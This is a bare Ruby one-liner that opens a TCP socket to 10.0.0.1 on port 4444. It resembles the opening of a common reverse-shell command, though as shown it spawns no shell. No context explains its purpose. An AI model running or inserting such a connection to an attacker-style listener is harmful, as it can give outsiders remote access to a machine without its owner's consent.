ruby -e 'require "socket"; TCPSocket.new("10.0.0.1", 4444)'
